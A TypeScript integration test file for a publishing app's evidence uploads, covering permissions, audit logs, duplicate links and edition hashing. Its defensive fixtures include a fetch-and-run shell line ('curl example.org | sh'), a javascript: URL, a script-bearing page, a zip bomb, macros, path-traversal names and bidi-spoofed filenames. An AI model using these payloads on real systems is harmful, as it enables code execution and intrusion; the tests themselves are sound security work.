import { randomUUID } from 'node:crypto';
import { readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import type { AddressInfo } from 'node:net';
import type { PublishedEvidence } from '../../../src/common/evidence.js';
import { contentHash } from '../../../src/common/content-hash.js';
import type { UpdateContent } from '../../../src/common/content.js';
import { SetCover } from '../../../src/modules/identity/index.js';
import { verifyEditions } from '../../../src/modules/publication/index.js';
import { EditUpdate } from '../../../src/modules/updates/actions/edit-update.js';
import { Evidence } from '../../../src/modules/updates/evidence/evidence.entities.js';
import {
  ReturnUpdate,
  UpdateRevision,
  withoutEvidence,
} from '../../../src/modules/updates/index.js';
import { publishAll } from '../../builders/signed-round.js';
import { clear } from '../../builders/update-acts.js';
import {
  aContent,
  addPlan,
  approve,
  buildWorld,
  draft,
  latestRevision,
  PASSWORD,
  submit,
  WORLD_PEOPLE,
  type World,
  type WorldPerson,
} from '../../builders/world.js';
import { aPdf, aWordFile, aZipBomb } from '../../builders/zip.js';
import { readHtml } from '../../support/read-html.js';
import { TestApp, type Answer, type SignedIn } from '../../support/test-app.js';

type Input = Partial<{
  title: string;
  href: string;
  name: string;
  marking: string;
  isPublished: boolean;
}>;
interface Item {
  id: string;
  title: string;
  isPublished: boolean;
  marking: string;
  href?: string;
  file?: { sha256: string; name: string; mediaType: string; bytes: number; scanState: string };
}

let test: TestApp;
let world: World;
const signedIn = {} as Record<WorldPerson, SignedIn>;
const HREF = 'https://example.org/report';

beforeAll(async () => {
  test = await TestApp.start();
  world = await buildWorld(test);
  for (const person of WORLD_PEOPLE) {
    signedIn[person] = await test.signIn(world.emailOf(person), PASSWORD);
  }
}, 60_000);
afterAll(() => test.stop());
/** Untouched ground for each test. */
beforeEach(async () => {
  world = await addPlan(test, world);
});

const pathOf = (updateId: string): string => `/api/updates/${updateId}/evidence`;

const add = (as: WorldPerson, updateId: string, input: Input = {}): Promise<Answer<Item>> =>
  test.request('POST', `${pathOf(updateId)}/links`, {
    as: signedIn[as],
    body: { title: 'A report', href: HREF, marking: 'official', isPublished: false, ...input },
  });

const announce = (as: WorldPerson, updateId: string, input: Input = {}): Promise<Answer<Item>> =>
  test.request('POST', `${pathOf(updateId)}/files`, {
    as: signedIn[as],
    body: { title: 'Figures', name: 'f.pdf', marking: 'official', isPublished: false, ...input },
  });

const send = (as: WorldPerson, updateId: string, id: string, bytes: Buffer | Readable) =>
  test.request('PUT', `${pathOf(updateId)}/${id}/file`, { as: signedIn[as], body: bytes });

async function addFile(updateId: string, bytes: Buffer, input: Input = {}): Promise<string> {
  const { body } = await announce('owner', updateId, input);
  const answer = await send('owner', updateId, body.id, bytes);
  expect([answer.status, answer.text]).toEqual([204, '']);
  return body.id;
}

async function list(as: WorldPerson, updateId: string): Promise<Item[]> {
  const { body } = await test.request<{ data: Item[] }>('GET', pathOf(updateId), {
    as: signedIn[as],
  });
  return body.data;
}

const titles = async (as: WorldPerson, updateId: string): Promise<string[]> =>
  (await list(as, updateId)).map(({ title }) => title);

const get = (as: WorldPerson, updateId: string, id: string): Promise<Answer> =>
  test.request('GET', `${pathOf(updateId)}/${id}/file`, { as: signedIn[as] });

const contentOf = ({ content }: UpdateRevision): UpdateContent =>
  JSON.parse(content) as UpdateContent;

/** Every file that the installation has on its disk. */
async function onDisk(): Promise<string[]> {
  const names = await readdir(test.dataFolder, { recursive: true, withFileTypes: true });
  return names.filter((entry) => entry.isFile()).map(({ name }) => name);
}

describe('who drafts', () => {
  it('adds links and files, changes what is published, removes and restores', async () => {
    const [updateId] = world.updateIds as [string];
    await add('owner', updateId);
    const fileId = await addFile(updateId, aPdf(), { name: 'C:\\temp\\Figures é.docx' });
    expect(await list('owner', updateId)).toMatchObject([
      { title: 'A report', href: HREF, isPublished: false },
      { title: 'Figures', file: { name: 'Figures é.pdf', mediaType: 'application/pdf' } },
    ]);

    const path = `${pathOf(updateId)}/${fileId}`;
    const as = signedIn.owner;
    const changed = await test.request<Item>('PATCH', path, { as, body: { isPublished: true } });
    expect(changed.status).toBe(200);
    expect((await list('owner', updateId)).map((item) => item.isPublished)).toEqual([false, true]);
    expect((await test.request('DELETE', path, { as })).status).toBe(404);
    const now = `${pathOf(updateId)}/${changed.body.id}`;
    expect((await test.request('DELETE', now, { as })).status).toBe(204);
    expect(await titles('owner', updateId)).toEqual(['A report']);
    expect((await test.request('POST', `${now}/restore`, { as })).status).toBe(204);
    expect((await test.request('POST', `${path}/restore`, { as })).status).toBe(409);
    expect(await titles('owner', updateId)).toEqual(['A report', 'Figures']);

    const trail = await test.manager.query<{ kind: string; data: string }[]>(
      `SELECT kind, data::text AS data FROM audit_entries WHERE subject_id = $1 AND kind LIKE 'evidence.%' ORDER BY seq`,
      [updateId],
    );
    expect(trail.map(({ kind }) => kind)).toEqual(
      ['added', 'added', 'changed', 'removed', 'restored'].map((kind) => `evidence.${kind}`),
    );
    // Never a title, a name or an address.
    for (const { data } of trail) expect(data).not.toMatch(/report|Figures|example/);
  });

  it('is refused what is sensitive and published, what is no web address, and what is too much', async () => {
    const [updateId] = world.updateIds as [string];
    const refused = async (input: Input): Promise<unknown> => {
      const { status, body } = await add('owner', updateId, input);
      return [status, (body as { issues?: { code: string }[] }).issues?.[0]?.code];
    };
    const marking = 'official_sensitive';
    expect(await refused({ marking, isPublished: true })).toEqual([400, 'sensitive']);
    for (const href of [
      'javascript:alert(1)',
      'mailto:a@example.org',
      '//example.org',
      'https://a:b@c.org',
    ]) {
      expect([href, await refused({ href })]).toEqual([href, [400, 'not_a_link']]);
    }
    for (const title of ['\u00a0 ', '\u200d\u200c', '\u200b']) {
      expect([title, await refused({ title })]).toEqual([title, [400, 'required']]);
    }
    for (const hiding of [
      '\u202e',
      '\u202a',
      '\u2066',
      '\u200f',
      '\u061c',
      '\u206a',
      '\u{e0041}',
    ]) {
      const title = `Minutes${hiding}fdp.exe`;
      expect([title, await refused({ title })]).toEqual([title, [400, 'hidden_character']]);
      const href = `https://example.org/${hiding}fdp.exe`;
      expect([href, await refused({ href })]).toEqual([href, [400, 'hidden_character']]);
    }
    expect(await refused({ href: 'https://exam\u200bple.org' })).toEqual([400, 'hidden_character']);
    const sensitive = (await add('owner', updateId, { marking })).body.id;
    const publish = await test.request('PATCH', `${pathOf(updateId)}/${sensitive}`, {
      as: signedIn.owner,
      body: { isPublished: true },
    });
    expect(publish.status).toBe(400);
    // Whatever the programs do.
    const row = await test.manager.findOneByOrFail(Evidence, { id: sensitive });
    await expect(
      test.manager.insert(Evidence, { ...row, id: updateId, position: 9, isPublished: true }),
    ).rejects.toThrow('ck_update_evidence_published');
    await expect(
      test.manager.update(Evidence, { id: sensitive }, { title: 'Another' }),
    ).rejects.toThrow('never changed');
    for (let more = 1; more < 20; more += 1) {
      await add('owner', updateId, { href: `${HREF}/${more}` });
    }
    expect(await refused({ href: `${HREF}/20` })).toEqual([400, 'too_many']);
  });
});

describe('the same address', () => {
  const said = ({ status, body }: Answer<unknown>): unknown[] => {
    const { issues, detail } = body as { issues?: object[]; detail?: string };
    return [status, issues?.[0] ?? detail];
  };
  const TWICE = {
    ...{ field: 'href', code: 'there_already' },
    message:
      'This address is on the list already, as “The first”. Change that one, or remove it first.',
  };

  it('is not added a second time to one update, however it is typed', async () => {
    const [updateId, other] = world.updateIds as [string, string];
    const href = 'https://example.org/Report?year=2022';
    await add('owner', updateId, { title: 'The first', href });
    for (const again of [
      href,
      ' HTTP://Example.ORG:80/Report/?year=2022 ',
      'https://example.org:443/Report?year=2022#',
    ]) {
      const answer = await add('owner', updateId, { title: 'The second', href: again });
      expect([again, said(answer)]).toEqual([again, [400, TWICE]]);
    }
    // Another page, another part of the page, another update.
    for (const elsewhere of [
      'https://example.org/report?year=2022',
      'https://example.org/Report?year=2021',
      `${href}#page=5`,
    ]) {
      const { status } = await add('owner', updateId, { href: elsewhere });
      expect([elsewhere, status]).toEqual([elsewhere, 201]);
    }
    expect((await add('owner', other, { href })).status).toBe(201);
    const atOnce = await Promise.all(
      ['One', 'Two'].map((title) => add('owner', other, { title, href: HREF })),
    );
    expect(atOnce.map(({ status }) => status).sort()).toEqual([201, 400]);
  });

  it('comes back once: by being added anew, or by being restored', async () => {
    const [updateId] = world.updateIds as [string];
    const as = signedIn.owner;
    const { id } = (await add('owner', updateId)).body;
    const path = `${pathOf(updateId)}/${id}`;
    expect((await test.request('DELETE', path, { as })).status).toBe(204);
    expect((await add('owner', updateId, { title: 'The first' })).status).toBe(201);
    expect(said(await test.request('POST', `${path}/restore`, { as }))).toEqual([
      ...[409, 'Its address was added anew meanwhile, as “The first”, and stands on the list.'],
    ]);
    expect(await titles('owner', updateId)).toEqual(['The first']);
  });

  it('that was added twice before stays, and each can be changed and removed', async () => {
    const [updateId] = world.updateIds as [string];
    const as = signedIn.owner;
    const first = (await add('owner', updateId, { title: 'The first' })).body;
    const row = await test.manager.findOneByOrFail(Evidence, { id: first.id });
    const twin = { id: randomUUID(), title: 'Its twin', position: 9 };
    await test.manager.insert(Evidence, { ...row, ...twin });
    expect(said(await add('owner', updateId))).toEqual([400, TWICE]);
    const path = `${pathOf(updateId)}/${twin.id}`;
    const { status, body } = await test.request<Item>('PATCH', path, {
      ...{ as, body: { title: 'The twin' } },
    });
    expect(status).toBe(200);
    expect(await titles('owner', updateId)).toEqual(['The first', 'The twin']);
    expect((await test.request('DELETE', `${pathOf(updateId)}/${body.id}`, { as })).status).toBe(
      204,
    );
    expect(await titles('owner', updateId)).toEqual(['The first']);
  });
});

describe('what is published', () => {
  it('is part of the content and its hash; the rest and what is removed are not', async () => {
    const [updateId] = world.updateIds as [string];
    const plain = await submit(test, updateId, world.people.owner, 'Words.');
    expect(contentOf(plain)).not.toHaveProperty('evidence');
    await sendBack(updateId);
    await add('owner', updateId, { title: 'Unpublished', href: `${HREF}/draft` });
    await add('owner', updateId, { title: 'Published', isPublished: true });
    const bytes = aWordFile();
    await addFile(updateId, bytes, { title: 'Report', name: 'r.docx', isPublished: true });
    const revision = await submit(test, updateId, world.people.owner, 'Words.');
    const [, { file } = {}] = (await list('owner', updateId)).slice(1);
    const evidence: PublishedEvidence[] = [
      { title: 'Published', href: HREF },
      {
        ...{ title: 'Report', file: file!.sha256, name: 'r.docx', bytes: bytes.length },
        mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      },
    ];
    expect(contentOf(revision)).toEqual({ ...contentOf(plain), evidence });
    expect(revision.contentHash).not.toBe(plain.contentHash);
    expect(contentHash(withoutEvidence(contentOf(revision)))).toBe(plain.contentHash);

    const { body } = await test.request<{ isEqual: boolean; diff: { evidence: unknown } }>(
      'GET',
      `/api/updates/${updateId}/diff?from=${plain.id}&to=latest`,
      { as: signedIn.lead },
    );
    expect(body).toMatchObject({
      isEqual: false,
      diff: { evidence: { added: evidence, removed: [] } },
    });
  });

  it('makes whoever adds it an author of the text, who does not approve it', async () => {
    const [updateId] = world.updateIds as [string];
    const { people } = world;
    await test.manager.insert('update_contributors', {
      ...{ updateId, personId: people.lead, addedById: people.owner, addedAt: test.now },
    });
    await draft(test, updateId, people.owner);
    await add('lead', updateId, { isPublished: true });
    await submit(test, updateId, people.owner);
    await expect(approve(test, updateId, people.lead)).rejects.toThrow();
    await approve(test, updateId, people.secondLead);
  });

  it('stays in a lead’s edit of the words', async () => {
    const [updateId] = world.updateIds as [string];
    await add('owner', updateId, { isPublished: true });
    const before = await submit(test, updateId, world.people.owner);
    await test.as(world.people.lead, (act) =>
      test.app.get(EditUpdate).execute(act, updateId, before.id, aContent('Edited.')),
    );
    const after = await latestRevision(test, updateId);
    expect(contentOf(after).evidence).toEqual(contentOf(before).evidence);
    expect(await titles('secondLead', updateId)).toEqual(['A report']);
  });

  it('is submitted as it was seen, or not at all', async () => {
    const [updateId] = world.updateIds as [string];
    const seen = (await add('owner', updateId)).body.id;
    const draftVersion = await draft(test, updateId, world.people.owner);
    const { id } = (await add('owner', updateId, { href: `${HREF}/more` })).body;
    const submitSeen = (evidenceIds: string[]) =>
      test.request('POST', `/api/updates/${updateId}/submit`, {
        as: signedIn.owner,
        body: { draftVersion, evidenceIds },
      });
    const late = await submitSeen([seen]);
    expect([late.status, late.body.code]).toEqual([409, 'update.evidence_changed']);
    expect((await submitSeen([seen, id])).status).toBe(200);
  });
});

const sendBack = async (updateId: string): Promise<void> => {
  const { id } = await latestRevision(test, updateId);
  await test.as(world.people.lead, (act) =>
    test.app.get(ReturnUpdate).execute(act, updateId, id, 'More evidence, please.'),
  );
};

describe('who sees it', () => {
  it('is who sees the text, as it stood when that was submitted', async () => {
    const [, updateId, , uncleared] = world.updateIds as [string, string, string, string];
    await addFile(updateId, aPdf('First'), { title: 'First' });
    expect(await titles('lead', updateId)).toEqual([]);
    await submit(test, updateId, world.people.owner);
    expect((await add('owner', updateId)).status).toBe(409);
    await sendBack(updateId);
    await add('owner', updateId, { title: 'Second' });
    expect(await titles('owner', updateId)).toEqual(['First', 'Second']);
    const readers: WorldPerson[] = ['lead', 'secondLead', 'chapterLead', 'secretariat', 'auditor'];
    for (const reader of readers) {
      expect([reader, await titles(reader, updateId)]).toEqual([reader, ['First']]);
    }
    const [{ id }] = (await list('owner', updateId)) as [Item];
    for (const person of WORLD_PEOPLE) {
      const mayRead =
        person === 'owner' || person === 'secondSecretariat' || readers.includes(person);
      const { status } = await get(person, updateId, id);
      expect([person, status]).toEqual([person, mayRead ? 200 : 404]);
    }

    await add('clearingOwner', uncleared, { title: 'Ours', isPublished: true });
    await submit(test, uncleared, world.people.clearingOwner);
    expect(await titles('clearer', uncleared)).toEqual(['Ours']);
    expect(await titles('lead', uncleared)).toEqual([]);
    await clear(test, uncleared, world.people.clearer);
    expect(await titles('lead', uncleared)).toEqual(['Ours']);
  });

  it('is the signatory too, from approval on, of what is published', async () => {
    const [updateId] = world.updateIds as [string];
    await add('owner', updateId, { title: 'Printed', isPublished: true });
    await add('owner', updateId, { title: 'Kept', href: `${HREF}/kept` });
    await submit(test, updateId, world.people.owner);
    expect(await titles('signatory', updateId)).toEqual([]);
    await approve(test, updateId, world.people.lead);
    expect(await titles('signatory', updateId)).toEqual(['Printed']);
    expect(await titles('lead', updateId)).toEqual(['Printed', 'Kept']);
  });

  it('adds nothing without drafting the text', async () => {
    const [updateId] = world.updateIds as [string];
    for (const person of WORLD_PEOPLE) {
      const { status } = await add(person, updateId);
      const isOwner = person === 'owner';
      expect([person, isOwner ? status === 201 : [403, 404].includes(status)]).toEqual([
        person,
        true,
      ]);
    }
    const { body } = await announce('owner', updateId);
    const kept = await onDisk();
    const pdf = Buffer.concat([aPdf(), Buffer.from(updateId)]);
    expect([403, 404]).toContain((await send('secondOwner', updateId, body.id, pdf)).status);
    expect(await onDisk()).toEqual(kept);
  });

  it('saves a file as what it is, never as a page, and notes who took a sensitive one', async () => {
    const [updateId] = world.updateIds as [string];
    const marking = 'official_sensitive';
    const id = await addFile(updateId, aPdf(), { name: 'été\u202e"; x=.pdf', marking });
    const { headers, text } = await get('owner', updateId, id);
    expect(text).toBe(aPdf().toString());
    expect(headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': `attachment; filename="_t___ x=.pdf"; filename*=UTF-8''%C3%A9t%C3%A9__%20x%3D.pdf`,
      'content-security-policy': "sandbox; default-src 'none'",
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
    });
    const [entry] = await test.manager.query<{ data: object }[]>(
      `SELECT data FROM audit_entries WHERE kind = 'evidence.downloaded' AND subject_id = $1`,
      [updateId],
    );
    expect(entry!.data).toMatchObject({ evidenceId: id });
  });

  it('notes for whom a sensitive one was taken on cover', async () => {
    const [updateId] = world.updateIds as [string];
    const id = await addFile(updateId, aPdf(), { marking: 'official_sensitive' });
    await test.as(world.people.owner, (act) =>
      test.app.get(SetCover).execute(act, {
        ...{ absentId: world.people.owner, coverId: world.people.stranger, parts: ['drafting'] },
        ...{ startsOn: '2022-05-09', endsOn: '2022-05-10' },
      }),
    );
    expect((await get('stranger', updateId, id)).status).toBe(200);
    expect((await get('contributor', updateId, id)).status).toBe(404);
    expect(
      await test.manager.query(
        `SELECT actor_id, on_behalf_of_id FROM audit_entries
         WHERE kind = 'evidence.downloaded' AND data->>'evidenceId' = $1`,
        [id],
      ),
    ).toEqual([{ actor_id: world.people.stranger, on_behalf_of_id: world.people.owner }]);
  });
});

describe('hostile files', () => {
  let updateId: string;
  let kept: string[];
  beforeEach(async () => {
    updateId = world.updateIds[0]!;
    kept = await onDisk();
  });
  afterEach(async () => {
    expect(await onDisk()).toEqual(kept);
    expect(await list('owner', updateId)).toEqual([]);
  });

  it.each([
    [
      'a script named .pdf',
      'report.pdf',
      Buffer.from('#!/bin/sh\ncurl example.org | sh\n'),
      'not_office',
    ],
    ['a page named .png', 'x.png', Buffer.from('<html><script>alert(1)</script>'), 'not_office'],
    ['a zip bomb named .docx', 'x.docx', aZipBomb(), 'bomb'],
    ['macros', 'x.docx', aWordFile({ name: 'word/vbaProject.bin', bytes: 'x' }), 'macros'],
    ['a path inside', 'x.docx', aWordFile({ name: '../../x', bytes: 'x' }), 'not_office'],
    ['nothing', 'x.pdf', Buffer.alloc(0), 'empty'],
  ])('are refused, and nothing of them is kept: %s', async (_, name, bytes, code) => {
    const { body } = await announce('owner', updateId, { name });
    const answer = await send('owner', updateId, body.id, bytes);
    expect(answer.status).toBe(400);
    expect(answer.body.issues).toMatchObject([{ field: 'file', code }]);
  });

  it('are refused when they turn out longer than 20 MB, whatever was said of their length', async () => {
    const { body } = await announce('owner', updateId);
    function* endless(): Generator<Buffer> {
      yield aPdf();
      for (;;) yield Buffer.alloc(1_000_000);
    }
    const answer = await send('owner', updateId, body.id, Readable.from(endless()));
    expect([answer.status, answer.body.code]).toEqual([413, 'file.too_large']);
  });

  it('of 1 GB are cut off at once, when their length is said', async () => {
    const { body } = await announce('owner', updateId);
    const sent = await sendOverNetwork(updateId, body.id, 1_000_000_000);
    expect(sent.answer).toMatch(/^HTTP\/1\.1 413 /);
    expect(sent.bytes).toBeLessThan(20_000_000);
  });

  it('are nowhere else taken: a type that no other route knows', async () => {
    const answer = await test.request('POST', '/api/session', { body: aPdf() });
    expect(answer.status).toBe(415);
  });
});

/** A client that sends until it is cut off. */
async function sendOverNetwork(
  updateId: string,
  id: string,
  length: number,
): Promise<{ answer: string; bytes: number }> {
  await test.app.listen(0, '127.0.0.1');
  const { port } = test.app.getHttpServer().address() as AddressInfo;
  const { cookie, csrf } = signedIn.owner;
  const socket = connect(port, '127.0.0.1');
  let answer = '';
  socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
  socket.on('error', () => undefined);
  const ended = new Promise((resolve) => socket.on('close', resolve));
  socket.write(
    `PUT ${pathOf(updateId)}/${id}/file HTTP/1.1\r\nHost: localhost\r\nCookie: ${cookie}\r\n` +
      `X-CSRF-Token: ${csrf}\r\nContent-Type: application/octet-stream\r\nContent-Length: ${length}\r\n\r\n`,
  );
  const piece = Buffer.alloc(65_536, 'x');
  const pump = (): void => {
    while (!socket.destroyed && socket.bytesWritten < length) {
      if (!socket.write(piece)) return void socket.once('drain', pump);
    }
  };
  pump();
  await ended;
  return { answer, bytes: socket.bytesWritten };
}

it('keeps the same bytes once, under their hash, wherever they stand', async () => {
  const [one, other] = world.updateIds as [string, string];
  const bytes = Buffer.concat([aPdf(), Buffer.from(one)]);
  await addFile(one, bytes, { name: '../../../etc/cron.d/x' });
  await addFile(other, bytes);
  const [{ file }] = (await list('owner', one)) as [Item];
  expect(file!.name).toBe('x.pdf');
  expect((await onDisk()).filter((name) => name === file!.sha256)).toHaveLength(1);
  expect(await readdir(join(test.dataFolder, 'files', file!.sha256.slice(0, 2)))).toContain(
    file!.sha256,
  );
});

it('is printed in every form of the edition, and its file given to everybody, to be saved', async () => {
  const [updateId] = world.updateIds as [string];
  await add('owner', updateId, { title: 'A page', isPublished: true });
  await addFile(updateId, aPdf('Public.'), { title: 'Public report', isPublished: true });
  await addFile(updateId, aPdf('Not public.'), { title: 'Kept back' });
  const [, shown, kept] = (await list('owner', updateId)) as [Item, Item, Item];
  const slug = `edition-of-${updateId}`;
  await test.manager.query('UPDATE rounds SET slug = $1 WHERE id = $2', [slug, world.roundId]);
  const addressOf = ({ file }: Item): string => `/editions/${slug}/evidence/${file!.sha256}/f.pdf`;
  expect((await test.request('GET', addressOf(shown))).status).toBe(404);
  await publishAll(test, world);

  const page = await test.request('GET', `/editions/${slug}`);
  expect(page.text).toContain(`<a href="${addressOf(shown)}">Public report</a> (PDF, `);
  expect(page.text).toContain(`<a href="${HREF}">A page</a> (example.org)`);
  expect(page.text).not.toContain('Kept back');
  for (const form of ['pdf', 'json', 'docx']) {
    expect([form, (await test.request('GET', `/editions/${slug}.${form}`)).status]).toEqual([
      form,
      200,
    ]);
  }
  const file = await test.request('GET', addressOf(shown));
  expect([file.status, file.text]).toEqual([200, aPdf('Public.').toString()]);
  expect(file.headers['content-disposition']).toMatch(/^attachment; /);
  expect(file.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
  expect((await test.request('GET', addressOf(kept))).status).toBe(404);

  const sha256 = shown.file!.sha256;
  const path = join(test.dataFolder, 'files', sha256.slice(0, 2), sha256);
  const check = async (): Promise<string> => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    const url = `/editions/${slug}/v1/check`;
    return readHtml((await test.request('POST', url, { body: '', headers })).text).text;
  };
  expect(await check()).toMatch(/with \d files and 1 evidence file/);
  expect((await test.request('GET', `/how-to-check?hash=${sha256}`)).text).toContain(
    'A file of evidence that was published with',
  );
  const bytes = await readFile(path);
  // As long as it was, and of the same date.
  const { mtime } = await stat(path);
  await writeFile(path, Buffer.from(bytes).fill('x', 10, 11));
  await utimes(path, mtime, mtime);
  expect(await check()).toContain(
    'the evidence “Public report” holds other bytes than were taken in',
  );
  await rm(path);
  expect(await check()).toContain('the evidence “Public report” is gone from the store');
  await writeFile(path, bytes);
  expect(await check()).toContain('It is as it was published');
  const inside = test.dataSource.createQueryRunner();
  await inside.startTransaction();
  await inside.query('ALTER TABLE uploaded_files DISABLE TRIGGER USER');
  await inside.query('UPDATE uploaded_files SET bytes = bytes + 1 WHERE sha256 = $1', [sha256]);
  expect((await verifyEditions(inside.manager)).wrong).toContain('“Public report” is not recorded');
  await inside.rollbackTransaction();
  await inside.release();
});
